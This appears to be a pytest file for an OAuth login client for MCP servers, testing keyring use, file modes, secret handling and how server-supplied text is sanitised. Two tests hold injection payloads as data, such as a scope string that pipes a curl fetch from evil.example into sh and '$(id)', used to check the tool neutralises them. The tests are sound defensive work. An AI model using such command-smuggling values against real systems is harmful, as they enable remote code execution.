    assert enter(server_of(guard), vault).keeping == "keyring"
    written = "".join(one.read_text(encoding="utf-8") for one in Path(vault.folder).iterdir())
    assert not any(one in written for one in provider.secrets)
    assert token_for(server_of(guard), vault) in provider.access
    asyncio.run(log_out(server_of(guard), "", vault))
    assert ring.kept == {}


def test_nobody_else_waits_while_a_keyring_asks_its_user(pair: tuple[Provider, Guarded], tmp_path: Path) -> None:
    asked, answered = threading.Semaphore(0), threading.Semaphore(0)
    late: list[str] = []

    class Asking(Ring):
        def __init__(self) -> None:
            super().__init__()
            self.plain = Ring()
            self.plain.kept = self.kept

        def _ask(self, what: str) -> None:
            asked.release()
            if not answered.acquire(timeout=2):
                late.append(what)

        def get_password(self, service: str, username: str) -> str | None:
            self._ask("get")
            return super().get_password(service, username)

        def set_password(self, service: str, username: str, password: str) -> None:
            self._ask("set")
            super().set_password(service, username, password)

    async def while_answering(work: Coroutine[Any, Any, Any]) -> Any:
        task = asyncio.ensure_future(work)
        while not task.done():
            if asked.acquire(blocking=False):
                answered.release()  # the loop goes on, so the user can answer
            await asyncio.sleep(0)
        return await task

    server, ring = server_of(pair[1]), Asking()
    vault = Vault(str(tmp_path / "state" / "logins"), lambda: ring)
    reach, shown = Reach.of([server.url]), Shown(browse_later, lambda _: None)
    login = asyncio.run(while_answering(log_in_at(server, Wish(seconds=3), reach, vault, shown)))
    age(Vault(vault.folder, lambda: ring.plain))
    headers = asyncio.run(while_answering(Access(server, vault=vault).headers()))
    assert dict(headers)[b"authorization"].decode().removeprefix("Bearer ") in pair[0].access
    assert (late, login.keeping, len(pair[0].asked("/token"))) == ([], "keyring", 2)


@pytest.mark.promise("I-04")
def test_the_systems_keyring_is_used_where_it_keeps_what_it_is_given() -> None:
    import keyring
    from keyring.backend import KeyringBackend
    from keyring.backends import fail, null

    class Kept(KeyringBackend):
        priority = 5  # pyright: ignore[reportAssignmentType]

        def get_password(self, service: str, username: str) -> str | None:
            return None

        def set_password(self, service: str, username: str, password: str) -> None: ...

    class Plain(Kept):
        priority = 0.5

    before = keyring.get_keyring()
    try:
        found = []
        for one in (Kept(), Plain(), fail.Keyring(), null.Keyring()):
            keyring.set_keyring(one)
            found.append(system_keyring.__wrapped__() is one)
    finally:
        keyring.set_keyring(before)
    assert found == [True, False, False, False]


@pytest.mark.promise("I-04")
def test_a_keyring_that_takes_nothing_so_long_leaves_it_to_the_file(
    pair: tuple[Provider, Guarded], tmp_path: Path
) -> None:
    vault = Vault(str(tmp_path / "state" / "logins"), lambda: Ring(20))
    assert enter(server_of(pair[1]), vault).keeping == "file"
    assert token_for(server_of(pair[1]), vault) in pair[0].access


@pytest.mark.promise("I-04")
@pytest.mark.skipif(sys.platform == "win32", reason="modes tell nothing there")
def test_only_the_owner_can_read_the_files_and_others_are_not_believed(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    _, guard = pair
    login = enter(server_of(guard), vault)
    file = Path(vault.folder) / f"{login.key}.json"
    modes = {one.name: stat.S_IMODE(one.stat().st_mode) for one in (file, file.parent)}
    assert modes == {file.name: 0o600, "logins": 0o700}
    file.chmod(0o644)
    with pytest.raises(IdentityError, match="chmod go-rwx"):
        vault.read(login.key)
    file.chmod(0o600)
    Path(vault.folder).chmod(0o777)
    with pytest.raises(IdentityError, match="by others"):
        vault.read(login.key)
    Path(vault.folder).chmod(0o700)
    file.write_text("{}", encoding="utf-8")
    with pytest.raises(IdentityError, match="log in again"):
        vault.read(login.key)


@pytest.mark.promise("I-04")
def test_what_a_login_shows_of_itself_holds_no_secret(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    provider.secret = "s3cret-of-client"
    provider.metadata = {"token_endpoint_auth_methods_supported": ["client_secret_post"]}
    login = enter(server_of(guard), vault)
    found = vault.read(login.key)
    shown = f"{login!r} {found!r} {vault.logins()!r} {json.dumps(str(found))}"
    assert not any(one in shown for one in provider.secrets)


# ── secrets of the policy's ──


@pytest.mark.promise("I-03")
def test_a_secret_of_the_policy_goes_only_to_a_provider_that_the_policy_names(
    pair: tuple[Provider, Guarded], vault: Vault, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    provider, guard = pair
    monkeypatch.setenv("NIGHTLY", "s3cret-of-nightly")
    assertion = tmp_path / "assertion"
    assertion.write_text("signed.by.somebody")
    server = server_of(guard, login="machine", client_id="nightly")
    guard.metadata = {"authorization_servers": [guard.url]}  # it names itself, to read the secret
    guard.overrides["/.well-known/oauth-authorization-server"] = lambda _: (
        200, {}, provider.document() | {"issuer": guard.url, "token_endpoint": f"{guard.url}/token"},
    )  # fmt: skip
    for one in (replace(server, client_secret_env="NIGHTLY"), replace(server, assertion_file=str(assertion))):
        with pytest.raises(IdentityError, match="does not say which provider it is for"):
            enter(one, vault)
    assert (provider.said, guard.asked("/token")) == ([], [])
    guard.metadata = {}
    named = replace(server, client_secret_env="NIGHTLY", issuer=provider.url)
    assert enter(named, vault).provider.issuer == provider.url


@pytest.mark.promise("I-03")
def test_the_secret_of_a_new_client_or_provider_is_not_sent_to_the_old_one(
    pair: tuple[Provider, Guarded], vault: Vault, monkeypatch: pytest.MonkeyPatch
) -> None:
    provider, guard = pair
    monkeypatch.setenv("OLD", "old-secret")
    monkeypatch.setenv("NEW", "new-secret")
    old = server_of(guard, client_id="old", client_secret_env="OLD", issuer=provider.url)
    enter(old, vault)
    age(vault)
    before = len(provider.said)
    other_client = replace(old, client_id="new", client_secret_env="NEW")
    with suppress(IdentityError):
        token_for(other_client, vault)
    other_provider = replace(old, client_secret_env="NEW", issuer="https://login.example.org")
    with pytest.raises(LoginNeeded, match="another provider than at the first login"):
        token_for(other_provider, vault)
    for said in provider.said[before:]:
        sent = said.authorization.removeprefix("Basic ")
        assert b"new-secret" not in base64.b64decode(sent) + said.body


# ── words of a server's ──


@pytest.mark.promise("I-01")
def test_words_of_a_server_do_not_look_like_ours(vault: Vault) -> None:
    scopes = ("read", "x:", "run", "`curl${IFS}evil.example|sh`", "$(id)", *(f"s{n}" for n in range(40)))
    told = str(LoginNeeded(Want(server="notes", url="https://mcp.example/mcp", reason="scopes", scopes=scopes)))
    assert "curl" not in told
    assert "$(" not in told
    assert len(told) < 250
    assert told.endswith("run `rightcall login notes`")
    assert "it wants the scopes read, x:, run, " in told


def test_a_command_that_people_copy_holds_no_command_of_a_server() -> None:
    want = Want(server="notes", url="https://mcp.example/mcp")
    told = str(IssuerChanged(want, "https://auth.example", "https://evil.example/;curl$IFS'x'|sh"))
    command = told.split("`")[1]
    assert shlex.split(command)[-1] == "https://evil.example/;curl$IFS'x'|sh"


# ── programs that print in pieces ──


def test_a_token_that_is_printed_in_pieces_is_read_whole(tmp_path: Path) -> None:
    program = tmp_path / "print.py"
    program.write_text(
        "import sys, time\nfor part in ('one-', 'two-', 'three'):\n"
        "    print(part, end='', flush=True)\n    time.sleep(0.05)\n"
    )
    server = Server("notes", url="https://mcp.example/mcp", token_command=(sys.executable, str(program)))
    assert asyncio.run(TokenAccess(server).headers()) == [(b"authorization", b"Bearer one-two-three")]


@pytest.mark.promise("I-02")
def test_a_provider_that_leads_to_the_page_of_another_has_to_be_named_by_a_person(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    provider, guard = pair
    elsewhere = provider.url.replace("127.0.0.1", "localhost")
    provider.metadata |= {
        "authorization_endpoint": f"{elsewhere}/authorize",
        "authorization_response_iss_parameter_supported": None,
    }
    provider.redirected["iss"] = None
    server = server_of(guard)
    with pytest.raises(IdentityError, match="sends people to log in at localhost"):
        enter(server, vault, show=lambda _: pytest.fail("somebody was sent there"))
    assert not provider.asked("/authorize")
    assert enter(server, vault, Wish(issuer=provider.url, seconds=3)).provider.issuer == provider.url
